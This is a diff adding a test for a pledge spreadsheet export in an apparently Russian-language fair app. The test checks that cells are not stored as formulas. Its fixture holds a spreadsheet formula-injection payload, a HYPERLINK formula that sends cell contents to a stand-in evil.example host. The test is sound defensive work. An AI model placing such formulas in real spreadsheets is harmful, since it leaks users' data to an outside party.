@@ -235,3 +235,31 @@ def test_the_board_answers_304_while_nothing_changed(system):
     assert (project["money_text"], project["money_needed_text"]) == ("12\u00a0500\u00a0₽", "50\u00a0000\u00a0₽")
     assert f.get(f"{base}/pledge-board?lang=en", headers=h).json["newest"][0]["partner"] == "anonymous partner"
     assert f.get(f"{base}/pledge-board").status_code == 401
+
+
+def test_the_export_lists_every_pledge_and_the_summaries_and_no_cell_is_a_formula(system):
+    import io
+
+    from openpyxl import load_workbook
+
+    w = day_world(system, teams=2, jurors=1)
+    f, h = system.client("fairs"), w["h"]
+    fair = day_fair(system, w)
+    base = f"{API}/fairs/{fair['id']}"
+    p1 = fair["pitches"][0]["id"]
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
+    f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": evil, "kind": "money", "amount": 12500}, headers=h)
+    f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "Автобаза №3", "kind": "in_kind", "description": "+Автобус",
+                                    "amount": 30000}, headers=h)
+    r = f.get(f"{base}/pledges.xlsx", headers=h)
+    assert r.status_code == 200 and r.headers["Content-Type"].startswith("application/vnd.openxmlformats")
+    book = load_workbook(io.BytesIO(r.data))
+    assert book.sheetnames == ["Обещания", "По проектам", "По партнёрам"]
+    rows = list(book["Обещания"].iter_rows(values_only=True))
+    assert rows[0][:3] == ("№", "Записано", "Партнёр") and len(rows) == 3
+    assert rows[1][2] == evil and rows[1][7] == 12500 and rows[2][8] == "+Автобус"
+    cells = [c for row in book["Обещания"].iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    projects = list(book["По проектам"].iter_rows(values_only=True))
+    assert projects[1][1] == "Эссо-тур" and projects[1][4] == 2 and projects[1][5] == 12500 and projects[1][8] == 30000
+    assert f.get(f"{base}/pledges.xlsx").status_code == 401
